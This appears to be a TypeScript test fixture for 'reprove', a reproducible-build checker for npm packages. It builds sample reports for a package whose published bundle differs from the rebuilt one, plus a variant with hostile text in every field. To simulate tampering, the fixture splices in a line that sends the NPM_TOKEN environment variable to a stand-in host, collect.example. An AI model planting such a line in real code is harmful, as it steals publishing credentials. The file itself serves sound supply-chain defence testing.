import { explain } from '../../src/explain/explain.ts';
import type { ResultDocument } from '../../src/report/document.ts';

const DIGESTS = { sha512: 'a'.repeat(128), sha256: 'b'.repeat(64), sha1: 'c'.repeat(40) };

const MATERIALS = ['a', 'b', 'c'].map((name) => ({
  name,
  version: '1.0.0',
  uri: `pkg:npm/${name}@1.0.0`,
  sha512: name.repeat(128),
  size: 100,
  license: name === 'b' ? null : 'MIT',
  afterCutoff: name === 'a',
}));

/** A divergence: one statement in a bundle of one line. What the pipeline would make of it, without running it. */
export function divergedDocument(change: Partial<ResultDocument> = {}): ResultDocument {
  const rebuilt = Array.from({ length: 40 }, (_, i) => `function f${i}(a){return a*${i}}`).join('');
  const at = rebuilt.indexOf('return a*20');
  const payload = "require('https').get('https://collect.example/'+process.env.NPM_TOKEN);";
  const published = rebuilt.slice(0, at) + payload + rebuilt.slice(at);
  const code = explain({
    path: 'dist/bundle.js',
    published: Buffer.from(published),
    rebuilt: Buffer.from(rebuilt),
  });
  return {
    schemaVersion: 1,
    tool: { name: 'reprove', version: '0.1.0' },
    subject: {
      purl: 'pkg:npm/bundled@1.0.0',
      ecosystem: 'npm',
      name: 'bundled',
      version: '1.0.0',
      artifact: 'bundled-1.0.0.tgz',
      digests: DIGESTS,
      size: 1000,
    },
    verdict: 'diverged',
    level: null,
    severity: 'high',
    reason: null,
    registry: 'https://registry.example/',
    source: {
      repository: 'https://github.com/example/bundled',
      commit: '1'.repeat(40),
      ref: 'refs/tags/v1.0.0',
      directory: '.',
      evidence: [{ kind: 'tag', detail: 'tag v1.0.0 leads to this commit' }],
      tree: '2'.repeat(40),
    },
    plan: {
      strategy: 'install-build-pack',
      toolchain: { node: '22.14.0', npm: '10.9.2' },
      evidence: [{ kind: 'lockfile', detail: 'package-lock.json' }],
      registryTime: '2026-01-01T00:00:00.000Z',
      clock: '2026-01-01T00:00:00.000Z',
      steps: [
        {
          name: 'build',
          phase: 'build',
          argv: ['npm', 'run', 'build'],
          cwd: '/work/source',
          env: {},
          optional: false,
        },
      ],
      withGit: false,
      conclusive: true,
      fallback: false,
      output: '/work/output',
    },
    sandbox: null,
    rebuilt: { digests: DIGESTS, materials: 3 },
    materials: MATERIALS,
    comparison: {
      entries: { total: 3, verbatim: 2, rebuilt: 0, normalized: 0, unexplained: 1 },
      origins: { 'package.json': 'verbatim', 'README.md': 'verbatim', 'dist/bundle.js': 'unexplained' },
      normalizers: [],
      wrapping: [],
      exact: null,
      packer: 'npm>=7.7',
      gzip: 'level 9, portable',
    },
    findings: [
      {
        kind: 'file-changed',
        severity: 'high',
        path: 'dist/bundle.js',
        message:
          'A file with other bytes than the source produces: dist/bundle.js runs when the package is imported.',
        evidence: {
          offset: at,
          diff: [
            `first difference at byte ${at} of ${published.length} (rebuilt: ${rebuilt.length})`,
            '-a',
            '+b',
          ],
          ...(code !== null && { code }),
        },
      },
    ],
    signals: [
      {
        kind: 'later-dependencies',
        severity: 'info',
        message: '1 of 3 dependencies is dated later: a@1.0.0.',
      },
    ],
    checked: [{ kind: 'registry-signature', detail: 'the registry signed it with key SHA256:abc' }],
    absent: [
      { kind: 'provenance', message: 'The registry has no provenance of the version.' },
      { kind: 'git-head', message: 'The registry names no commit as gitHead.' },
    ],
    attempts: [
      {
        strategy: 'install-build-pack',
        commit: '1'.repeat(40),
        outcome: 'diverged',
        durationMs: 1234,
        repairs: [],
        log: null,
      },
    ],
    timings: { publishedMs: 1, sourceMs: 1, planMs: 1, rebuildMs: 1, compareMs: 1, totalMs: 5 },
    policy: null,
    attestation: null,
    ...change,
  };
}

/** The same with every text from outside replaced. */
export function hostileDocument(text: string): ResultDocument {
  const plain = divergedDocument();
  const [finding] = plain.findings;
  if (finding === undefined || plain.source === null || plain.comparison === null || plain.plan === null)
    throw new Error('The document has all of these.');
  return {
    ...plain,
    subject: { ...plain.subject, name: text, version: text, artifact: text, purl: text },
    source: {
      ...plain.source,
      repository: text,
      ref: text,
      directory: text,
      evidence: [{ kind: text, detail: text }],
    },
    plan: {
      ...plain.plan,
      toolchain: { [text]: text },
      evidence: [{ kind: text, detail: text }],
      steps: plain.plan.steps.map((step) => ({
        ...step,
        name: text,
        argv: [text, text],
        env: { [text]: text },
      })),
    },
    comparison: { ...plain.comparison, origins: { [text]: 'unexplained' }, packer: text, gzip: text },
    findings: [
      {
        ...finding,
        path: text,
        message: text,
        evidence: {
          diff: ['--- rebuilt', '+++ published', text, `-${text}`, `+${text}`, ` ${text}`],
          code: {
            total: 1,
            changes: [{ kind: 'added', offset: 0, line: 1, code: text, edit: text }],
            capabilities: [{ kind: 'network', detail: text }],
          },
          data: {
            total: 1,
            changes: [{ kind: 'changed', path: text, published: text, rebuilt: text }],
            oddlyWritten: false,
          },
        },
      },
    ],
    signals: [{ kind: 'later-dependencies', severity: 'high', message: text }],
    checked: [{ kind: text, detail: text }],
    absent: [{ kind: text, message: text }],
    attempts: [
      { strategy: text, commit: '1'.repeat(40), outcome: text, durationMs: 1, repairs: [text], log: text },
    ],
  };
}
